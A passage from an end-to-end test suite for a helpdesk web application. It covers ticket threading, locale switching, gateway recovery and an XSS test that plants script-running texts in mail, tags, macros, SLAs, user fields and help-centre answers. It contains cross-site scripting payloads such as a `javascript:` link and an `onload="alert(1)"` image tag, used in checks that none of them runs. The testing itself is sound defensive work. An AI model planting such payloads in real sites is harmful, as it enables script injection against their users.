      await nora.page.getByText('I take two.').waitFor();
      const ticket = await admin.ticketTitled('Does the boat float?');
      const thread = (await admin.articlesOf(ticket.id)).filter(({ sender }) => sender !== 'System');
      expect(thread.map(({ type, sender }) => [type, sender])).toEqual([
        ['chat', 'Customer'],
        ['email', 'Agent'],
        ['email', 'Customer'],
      ]);
      const all = await admin.get('/api/v1/tickets?per_page=500');
      expect(all.filter(({ customer_id }: Json) => customer_id === ticket.customer_id)).toHaveLength(1);
    } finally {
      shop.server.close();
      thief.server.close();
      await admin.put('/api/v1/chat_settings', { chat_active: false });
    }
  });

  it('S01: three hundred texts that would run a script run none, wherever they stand', async () => {
    const [inName = '', inTag = ''] = hostileNames;
    const body = hostileTexts.map((text, i) => `<div>${i}: ${text}</div>`).join('\n');
    const mail = rawMail({
      from: `"${inName}" <xss@customer.example>`,
      subject: `S01 ${inName}`,
      html: `<p>Begins.</p>${body}<p>Ends.</p>`,
      attachments: hostileNames.map((name) => ({
        name: `${name}.html`,
        type: 'text/html',
        content: hostileTexts.join('\n'),
      })),
    });
    await sendRaw({ port: platform.smtpPort }, mail, { from: 'xss@customer.example', to: 'helpdesk@localhost' });
    const ticket = await admin.ticketTitled('S01 ');
    for (const name of hostileNames) {
      await admin.post('/api/v1/tags/add', { object: 'Ticket', o_id: ticket.id, item: name.slice(0, 200) });
    }
    const macro = await admin.post('/api/v1/macros', { name: inName, perform: { 'ticket.priority_id': { value: 3 } } });
    const sla = await admin.post('/api/v1/slas', {
      ...{ name: inName, first_response_time: 60 },
      condition: { 'ticket.number': { operator: 'is', value: ticket.number } },
      calendar_id: (await admin.get('/api/v1/calendars'))[0].id,
    });
    await admin.put(`/api/v1/users/${ticket.customer_id}`, { note: body.slice(0, 200), web: `javascript:top.hurt=1` });
    const kb = '/api/v1/knowledge_bases/1';
    const category = await admin.post(`${kb}/categories`, { translations: [{ locale: 'en', title: inName }] });
    const answer = await admin.post(`${kb}/answers`, {
      category_id: category.id,
      translations: [{ locale: 'en', title: `S01 ${inTag}`, body }],
    });
    await admin.post(`${kb}/answers/${answer.id}/publish`, {});
    try {
      const xena = await browser.person();
      const { page } = xena;
      // What is shown of an image is its address, and that is none of ours.
      xena.allow(/status of 404/, /^Loading the image /);
      const unhurt = async (where: string) => expect(await page.evaluate(() => 'hurt' in window), where).toBe(false);
      await xena.goto(`/help/en/answers/s01-${answer.id}`);
      await page.getByRole('heading', { level: 1 }).waitFor();
      await unhurt('the public answer');
      await xena.goto(`/help/en/search?q=S01`);
      await unhurt('the public search');
      await xena.comeIn(platform.admin.email, platform.admin.password, { at: '/tickets?view=all&q=S01' });
      await xena.row(/^(Changed: )?S01/).waitFor();
      await unhurt('the list');
      await xena.row(/^(Changed: )?S01/).click();
      const frame = xena.message(/^Customer: /).frameLocator('iframe');
      await frame.getByText('Ends.').waitFor();
      await page.getByRole('link', { name: inTag }).first().waitFor();
      await page.getByText(new RegExp(`By ${inName.slice(0, 4)}`)).waitFor();
      await page.getByRole('button', { name: 'Macros' }).click();
      await page.getByRole('menuitem', { name: inName }).waitFor();
      await page.keyboard.press('Escape');
      await unhurt('the ticket');
      // What a mistake of the page would make of a text.
      xena.allow(/TrustedScript/);
      const made = page.evaluate(() => {
        const element = document.createElement('div');
        element.innerHTML = '<img src="/favicon.svg" onload="alert(1)">';
        return element.innerHTML;
      });
      expect(await made).toBe('<img src="/favicon.svg">');
      const script = page.evaluate(() => {
        document.createElement('script').text = 'alert(1)';
      });
      await expect(script).rejects.toThrow('TrustedScript');
      for (const [place, ready] of [
        [`/admin/macros/${macro.id}`, 'Save'],
        [`/admin/slas/${sla.id}`, 'Save'],
        [`/admin/knowledge-base/answers/${answer.id}`, 'Archive'],
        [`/admin/users/${ticket.customer_id}`, 'Save'],
      ] as const) {
        await xena.goto(place);
        await page.getByRole('button', { name: ready }).first().waitFor();
        await unhurt(place);
      }
      expect(page.context().pages()).toHaveLength(1);
    } finally {
      await admin.call('DELETE', `/api/v1/slas/${sla.id}`);
      await admin.call('DELETE', `/api/v1/macros/${macro.id}`);
    }
  });

  it('speaks German and English, as the browser does and as one chooses', async () => {
    const ida = await browser.person({ locale: 'de-DE' });
    const { page } = ida;
    await account('Ida', 'Agent');
    await ida.goto('/');
    await ida.heading('Anmelden').waitFor();
    await ida.fillIn(emailOf('Ida'), password);
    await page
      .getByRole('link', { name: /^Nicht zugewiesen/ })
      .first()
      .waitFor();
    expect(await page.locator('html').getAttribute('lang')).toBe('de');

    await page.getByRole('button', { name: 'Sprache' }).click();
    await page.getByRole('menuitemradio', { name: 'English' }).click();
    await page
      .getByRole('link', { name: /^Unassigned/ })
      .first()
      .click();
    await ida.heading('Unassigned').waitFor();
    expect(await page.getByText('Nicht zugewiesen').count()).toBe(0);
    expect(await page.locator('html').getAttribute('lang')).toBe('en');
    await page.reload();
    await ida.heading('Unassigned').waitFor();
  });

  it('what arrived while the gateway was away is shown when it is back, and what comes later too', async () => {
    const jo = await agent('Jo');
    const { page } = jo;
    // What comes after the page may not come at all then; the page stands without it.
    jo.allow(/net::ERR_|status of 50\d|Failed to fetch dynamically imported module|Unable to preload CSS/);
    const loaded = await jo.document();
    await page.getByRole('link', { name: /^All open|^Open/ }).waitFor();
    await platform.services.gateway.stop();
    await mailIn({ from: 'kim@customer.example', subject: 'Sent into the dark', text: 'Hello?\n' });
    await platform.services.gateway.start();
    await jo.row('Sent into the dark').waitFor({ timeout: 30_000 });

    await platform.services.gateway.restart();
    await mailIn({ from: 'kim@customer.example', subject: 'Sent after that', text: 'Hello again!\n' });
    await jo.row('Sent after that').waitFor({ timeout: 30_000 });
    expect(await jo.document()).toBe(loaded);
  });
});

async function setPassword(person: Person, link: string, chosen: string): Promise<void> {
  const { page } = person;
  await page.goto(link);
  await page.getByLabel('New password').fill('short');
  await page.getByRole('button', { name: 'Save the password' }).click();
  await page.getByText('Too short: use at least 10 characters.').waitFor();
  await page.getByLabel('New password').fill(chosen);
  await page.getByRole('button', { name: 'Save the password' }).click();
  await person.heading('Password saved').waitFor();
}

/** A server of somebody else that notes who asked for something, and has a few pages. */
async function listener(pages: Record<string, string> = {}): Promise<{ server: Server; url: string; asked: string[] }> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    const page = pages[request.url ?? ''];
    if (page !== undefined) response.setHeader('content-type', 'text/html; charset=utf-8');
    response.end(page);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked };
}
